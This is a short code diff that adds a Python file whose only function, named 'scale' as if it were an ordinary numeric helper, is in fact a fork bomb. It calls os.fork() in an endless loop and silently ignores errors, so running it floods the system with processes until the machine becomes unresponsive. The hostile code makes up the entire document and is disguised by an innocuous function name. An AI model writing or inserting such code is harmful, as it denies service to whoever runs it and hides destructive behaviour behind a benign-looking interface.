@@ -1,0 +1,10 @@
+"""Forks without end."""
+import os
+
+
+def scale(x, factor):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
